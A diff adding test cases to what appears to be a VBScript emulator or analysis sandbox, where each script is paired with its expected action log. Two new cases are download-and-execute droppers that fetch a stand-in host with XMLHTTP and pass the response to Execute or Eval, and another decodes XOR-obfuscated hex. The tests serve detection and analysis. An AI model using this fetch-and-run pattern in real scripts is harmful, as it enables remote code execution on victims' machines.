@@ -165,7 +165,15 @@ static const program scripts[] = {
     {"ampersand without blanks", "a = \"x\"\nMsgBox a&\"y\"&a\n", "message: xyx\n"},
     {"wscript", "Set s = WScript.CreateObject(\"WScript.Shell\")\ns.Run \"tool.invalid /x\", 0\nWScript.Echo \"e\"\nWScript.Quit\nMsgBox 1\n",
      "run: tool.invalid /x\nmessage: e\n"},
-    {"getref", "Function q(a)\nq = a * 2\nEnd Function\nSet r = Nothing\nMsgBox q(4)\n", "message: 8\n"},
+    {"getref", "Function q(a)\nq = a * 2\nEnd Function\nSet r = GetRef(\"q\")\nMsgBox r(4) & TypeName(r)\n", "message: 8Procedure\n"},
+    {"procedures as values", "Dim n\nSub g\nn = n + 1\nMsgBox n\nEnd Sub\nSet f = GetRef(\"g\")\nf\nf()\nCall f\nCall f()\nGetRef(\"g\")()\nDim a(1)\nSet a(0) = f\na(0)()\nx = f()\nGetRef \"g\"\nGetRef(\"none\")()\n",
+     "message: 1\nmessage: 2\nmessage: 3\nmessage: 4\nmessage: 5\nmessage: 6\nmessage: 7\n"},
+    {"replace asks a procedure", "Function d(m, g, at, s)\nd = Chr(CLng(\"&H\" & g) Xor 1) & at\nEnd Function\nSet r = New RegExp\nr.Global = True\nr.Pattern = \"([0-9a-f]{2})\"\nMsgBox r.Replace(\"60.63\", GetRef(\"d\"))\n",
+     "message: a0.b3\n"},
+    {"execute what came", "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.open \"GET\", \"http://a.example/\", False\nh.send\nIf h.Status = 200 Then Execute h.responseText\n",
+     "download: http://a.example/\ndownload: http://a.example/\nread: http://a.example/\nrun: {text of http://a.example/}\n"},
+    {"eval what came", "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.open \"GET\", \"http://a.example/\", False\nh.send\nIf h.Status = 200 Then x = Eval(h.responseText)\nMsgBox 1\n",
+     "download: http://a.example/\nmessage: 1\ndownload: http://a.example/\nread: http://a.example/\nrun: {text of http://a.example/}\n"},
 };
 
 static void test_scripts(void **state)
